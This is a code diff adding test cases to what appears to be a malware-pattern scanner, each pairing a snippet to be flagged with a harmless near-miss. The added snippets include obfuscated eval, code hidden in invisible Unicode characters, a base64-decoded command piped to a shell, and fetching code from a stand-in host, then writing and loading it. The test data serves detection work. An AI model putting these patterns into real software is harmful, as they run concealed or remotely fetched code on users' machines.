@@ -128,6 +128,30 @@ const examples: Readonly<Record<string, Example>> = {
     found: `require('child_' + 'process').exec('git status');`,
     left: `require('./child_' + 'pages').exec('git status');`,
   },
+  'malware/hidden-global': {
+    found: `globalThis['ev' + 'al'](text);`,
+    left: `globalThis['x' + 'y'](text); globalThis['eval'];`,
+  },
+  'malware/invisible-text': {
+    found: `const read = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100); new Function(join(read(text)))();`,
+    left: `const isTag = (c) => c >= 0xe0100; show(isTag(c));`,
+  },
+  'malware/data-to-code': {
+    found: `${fs} eval(fs.readFileSync(__dirname + '/data.txt', 'utf8'));`,
+    left: `${fs} eval(fs.readFileSync(file, 'utf8')); show(fs.readFileSync('data.txt'));`,
+  },
+  'malware/decoded-command': {
+    found: `${cp} cp.exec('echo Y29uc29sZQ== | base64 -d | sh');`,
+    left: `${cp} cp.exec('base64 -d picture.b64 > picture.png');`,
+  },
+  'malware/download-load': {
+    found: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x.js', t); require('/tmp/x.js'); });`,
+    left: `${fs} fetch('https://c.example/a').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x.json', t); require('./y.js'); });`,
+  },
+  'malware/remote-module': {
+    found: `import('https://c.example/x.mjs');`,
+    left: `const text = "import('https://c.example/x.mjs')"; import('./x.mjs');`,
+  },
   'malware/module-from-text': {
     found: `const m = new module.constructor(); m.load(Buffer.from(texts[0], 'hex').toString());`,
     left: `const m = new module.Constructor(); m.load(Buffer.from(texts[0], 'hex').toString());`,
